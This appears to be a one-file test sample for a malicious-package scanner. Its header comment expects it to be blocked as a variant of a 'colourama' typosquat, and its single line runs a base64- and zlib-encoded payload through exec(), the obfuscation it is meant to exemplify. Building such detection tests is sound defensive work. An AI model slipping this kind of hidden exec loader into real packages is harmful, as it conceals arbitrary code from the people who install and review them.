# expect: BLOCKED category: known_threat variant-of: risky/known_threat/typosquat_colourama.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJxTVvDMLcgvKilWSM7PyS8tSsxN1FEoyUhVMDIwtFAoqSzILy4sTSxRyE8DKwDJ63GlFeXnItQrZIJNUHDLL0rl4iooyswr0QCx9dyDXF39FLQVlJJKM3NSFPKzlTQBdx8ltg==')))
